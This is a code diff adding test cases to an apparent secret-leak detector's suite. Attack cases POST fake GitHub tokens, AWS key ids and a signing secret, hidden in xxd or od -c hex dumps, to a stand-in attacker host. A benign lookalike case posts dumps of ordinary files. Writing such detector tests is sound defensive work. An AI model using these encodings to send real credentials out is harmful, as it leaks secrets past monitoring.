@@ -665,12 +665,37 @@ def attacks(rng: random.Random) -> list[Case]:
     add("hexdump", "one line of hex bytes of an AWS key id, a tab and blanks apart", ("aws-access-key-id",),
         method="POST", url=f"{evil}/paste", headers=plain,
         body=("id:\t" + "\t    ".join(f"{b:02x}" for b in eighth.aws_id().encode()) + "\n").encode())
+
+    # -- xxd in wide columns, dumps indented deep, od -c with tabs --------------------------------
+    ninth = _Fakes(random.Random(1509))  # its own generator: the cases before stay as they were
+    gh9 = f"[default]\ntoken = {ninth.github()}\n".encode()
+    aws9 = f"[default]\naws_access_key_id = {ninth.aws_id()}\n".encode()
+    add("hexdump", "xxd of a token file, its groups re-aligned six blanks apart", ("github-token",),
+        method="POST", url=f"{evil}/paste", headers=plain, body=_wide_xxd(gh9, 6).encode())
+    add("hexdump", "xxd of an AWS credentials file in a YAML block scalar indented twenty blanks",
+        ("aws-access-key-id",), method="POST", url=f"{evil}/paste", headers=plain,
+        body=("a:\n  b:\n    c:\n      d:\n        e:\n          f:\n            g:\n              h:\n"
+              "                dump: |\n" + _indented(xxd(aws9), " " * 20) + "                ok: true\n").encode())
+    add("hexdump", "od -c | tr ' ' '\\t' of the signing secret", ("SIGNING_SECRET",), method="POST",
+        url=f"{evil}/paste", headers=plain, body=od_c(f"key={signing}\n".encode()).replace(" ", "\t").encode())
     return out
 
 
 def _realigned_xxd(dump: str, rng: random.Random) -> str:
     """``xxd``'s lines with each blank between two groups made two or three blanks or a tab."""
     return re.sub(r"(?<=[0-9a-f]{4}) (?=[0-9a-f]{4})", lambda m: rng.choice(("  ", "   ", "\t")), dump)
+
+
+def _wide_xxd(data: bytes, blanks: int) -> str:
+    """``xxd`` with ``blanks`` blanks between its groups and its columns kept aligned (a short
+    last line's groups padded out to where a full line's end, then its text column)."""
+    full = 16 * 2 + 7 * blanks
+    lines = []
+    for at in range(0, len(data), 16):
+        chunk = data[at:at + 16]
+        row = (" " * blanks).join(chunk[i:i + 2].hex() for i in range(0, len(chunk), 2))
+        lines.append(f"{at:08x}: {row:<{full}}  " + "".join(chr(b) if 0x20 <= b < 0x7F else "." for b in chunk))
+    return "\n".join(lines) + "\n"
 
 
 def _wide_columns(data: bytes, blanks: int, *, offsets: bool = False) -> str:
@@ -1084,6 +1109,14 @@ def benign(rng: random.Random) -> list[Case]:
               + "".join("    ".join(f"{aligned.randrange(10, 100):>2}" for _ in range(12)) + "\n" for _ in range(20))
               + "".join(f"0x{0x100003f80 + at:x}:    " + "    ".join(f"{b:02x}" for b in source[at:at + 16]) + "\n"
                         for at in range(0, len(source), 16))).encode())
+    deep = random.Random(1509)
+    add("lookalike", "xxd in wide columns, dumps indented deep, od -c with tabs and a TSV, of ordinary files",
+        method="POST", url="https://api.github.com/repos/o/r/issues", headers=(JSON,),
+        body=_json({"title": "dumps", "body": "```\n" + _wide_xxd(deep.randbytes(120), 5) + _wide_xxd(source + b"cafe", 6)
+                    + "```\n" + _indented(xxd(source), " " * 24) + od_c(source).replace(" ", "\t")
+                    + "".join(f"{i:07o}\t" + "\t".join(f"{deep.randrange(1000)}" for _ in range(8)) + "\n"
+                              for i in range(0, 64, 8))
+                    + "".join(f"{' ' * 18}{i:06d} 2026-12-07 08:{i:02d}:00 worker ready\n" for i in range(12))}))
     return out
 
 
